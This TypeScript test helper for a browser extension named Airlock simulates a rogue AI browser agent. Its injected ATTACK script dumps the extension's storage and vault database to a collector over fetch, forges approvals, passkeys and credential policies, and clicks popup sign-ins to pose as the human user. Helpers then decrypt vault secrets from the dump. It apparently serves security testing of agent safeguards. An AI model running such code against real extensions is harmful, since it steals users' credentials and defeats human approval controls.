import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { canonicalJson } from '../../lib/vault/canonical-json';
import { openJson, recordAad, type SealedBox } from '../../lib/vault/vault-crypto';

/**
 * What a rogue agent does in one of Airlock's pages once it has one in a tab (chrome-extension://<id>/…):
 * everything the page's privileges allow, as fast as it can, and every finding sent out to a
 * collector (an extension page may fetch any site). Run two ways: as an init script, which starts at
 * the document's creation and races Airlock's own-page watch (the hardest case: it may get some
 * milliseconds), and as a plain `evaluate` after the load (what Playwright MCP's default tools do).
 */
export interface AttackPlan {
  collector: string;
  /** Dump storage.local, storage.session and the vault database. */
  read?: boolean;
  /** Set this approval's stored status to approved and tell the frame that held it so. */
  approve?: { approvalId: string; tabId: number; frameId: number };
  /** Open the toolbar popup and click the first entry of a waiting sign-in there (getViews). */
  decideSignIn?: boolean;
  /** Switch this tab to "Me" through the popup (getViews), with no proof. */
  lower?: { tabId: number };
  /** Store records that grant something: a remembered decision, a passkey of the attacker's, a long idle time. */
  forge?: { origin: string; entryId: string; agent: string };
}

/** Runs in the Airlock page. Kept as source: it is injected, not imported. */
export const ATTACK = String.raw`async (plan) => {
  if (location.protocol !== 'chrome-extension:' || !globalThis.chrome || !chrome.storage) return 'not an Airlock page';
  const report = (what, data) => fetch(plan.collector + '/' + what, { method: 'POST', body: JSON.stringify(data) }).catch(() => undefined);
  const done = [];
  const bytes = (value) => (value instanceof Uint8Array ? { __bytes: Array.from(value) } : Array.isArray(value) ? value.map(bytes) : value && typeof value === 'object' ? Object.fromEntries(Object.entries(value).map(([k, v]) => [k, bytes(v)])) : value);
  if (plan.read) {
    report('session', await chrome.storage.session.get(null));
    report('local', await chrome.storage.local.get(null));
    const db = await new Promise((resolve) => { const r = indexedDB.open('airlock-vault'); r.onsuccess = () => resolve(r.result); r.onerror = () => resolve(null); });
    if (db) {
      const all = (store) => new Promise((resolve) => { try { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => resolve(r.result.map(bytes)); r.onerror = () => resolve([]); } catch { resolve([]); } });
      report('idb', { entries: await all('entries'), meta: await all('meta') });
    }
    done.push('read');
  }
  const send = (kind, payload) => chrome.runtime.sendMessage({ airlock: 'internal', kind, payload }).catch((e) => ({ ok: false, error: String(e) }));
  if (plan.forge) {
    // For the agent's name and for each signal that may name it before its hello: whichever the request carries.
    const policy = (agent) => ({ id: 'forged-' + agent, origin: plan.forge.origin, entryId: plan.forge.entryId, agent, createdAt: 1 });
    const names = [plan.forge.agent, 'navigation', 'headless', 'webdriver'];
    await chrome.storage.local.set({ 'credentialPolicies.v1': names.map(policy) });
    await chrome.storage.local.set({ 'vaultIdleLock.v1': 240 });
    await chrome.storage.local.set({ 'passkeys.v1': [{ id: 'forged-key', name: 'attacker', publicKey: 'AAAA', alg: -7, signCount: 0, createdAt: 1, lastUsedAt: null }] });
    report('forged', await send('passkey.list', {}));
    done.push('forge');
  }
  if (plan.approve) {
    const stored = (await chrome.storage.session.get('approvals.v1'))['approvals.v1'];
    const record = stored && stored.records && stored.records[plan.approve.approvalId];
    if (record) {
      record.status = 'approved';
      record.decidedAt = Date.now();
      await chrome.storage.session.set({ 'approvals.v1': stored });
      await chrome.tabs.sendMessage(plan.approve.tabId, { airlock: 'approval', id: record.id, kind: record.action.kind, topic: record.action.topic, status: 'approved' }, { frameId: plan.approve.frameId }).catch(() => undefined);
      done.push('approve');
    }
  }
  if (plan.decideSignIn || plan.lower) {
    await chrome.action.openPopup().catch(() => undefined);
    let popup = null;
    for (let i = 0; i < 40 && !popup; i++) {
      popup = chrome.extension.getViews({ type: 'popup' })[0] || null;
      if (!popup) await new Promise((r) => setTimeout(r, 50));
    }
    if (popup) {
      if (plan.lower) report('lower', await popup.chrome.runtime.sendMessage({ airlock: 'internal', kind: 'ui.setToggle', payload: { tabId: plan.lower.tabId, scope: 'tab', agent: false, proof: { kind: 'none' } } }));
      if (plan.decideSignIn) {
        for (let i = 0; i < 60; i++) {
          const button = popup.document.querySelector('.credential-request [data-entry-id]');
          if (button) { button.click(); done.push('clicked'); break; }
          await new Promise((r) => setTimeout(r, 50));
        }
      }
    }
  }
  report('done', done);
  return done;
}`;

/** The script for `page.addInitScript`: the attack, started as the document is created. */
export function initScript(plan: AttackPlan): string {
  return `(${ATTACK})(${JSON.stringify(plan)})`;
}

export interface Collector {
  url: string;
  /** Everything the attack sent, by what it was. */
  received: Array<{ what: string; body: string }>;
  close(): Promise<void>;
}

/** Where the attack sends its findings: a server on loopback that keeps every body. */
export async function startCollector(): Promise<Collector> {
  const received: Collector['received'] = [];
  const server: Server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      received.push({ what: (request.url ?? '/').slice(1), body });
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const unbytes = (value: unknown): unknown => {
  if (value && typeof value === 'object') {
    const record = value as Record<string, unknown>;
    if (Array.isArray(record.__bytes)) return new Uint8Array(record.__bytes as number[]);
    return Array.isArray(value) ? value.map(unbytes) : Object.fromEntries(Object.entries(record).map(([k, v]) => [k, unbytes(v)]));
  }
  return value;
};

/**
 * What the attacker can make of what it collected: any vault key it found in storage, and with it
 * every entry's secret it can open. Empty when it found no key, or none that opens an entry.
 */
export async function secretsFrom(received: Collector['received']): Promise<string[]> {
  const texts = received.filter((r) => r.what === 'session' || r.what === 'local').map((r) => r.body);
  const keys = new Set<string>();
  for (const text of texts) {
    for (const match of text.matchAll(/"key":"([A-Za-z0-9+/=]{40,48})"/g)) keys.add(match[1]!);
  }
  const dump = received.find((r) => r.what === 'idb');
  if (keys.size === 0 || !dump) return [];
  const entries = (unbytes(JSON.parse(dump.body)) as { entries: Array<{ id: string; origins: string[]; matchMode: 'exact' | 'site'; secret: SealedBox }> }).entries;
  const secrets: string[] = [];
  for (const raw of keys) {
    const key = await crypto.subtle.importKey('raw', Buffer.from(raw, 'base64'), 'AES-GCM', false, ['decrypt']).catch(() => null);
    if (!key) continue;
    for (const entry of entries) {
      const opened = await openJson(key, recordAad({ id: entry.id, origins: entry.origins, matchMode: entry.matchMode, field: 'secret' }), entry.secret).catch(() => null);
      if (opened) secrets.push(canonicalJson(opened));
    }
  }
  return secrets;
}
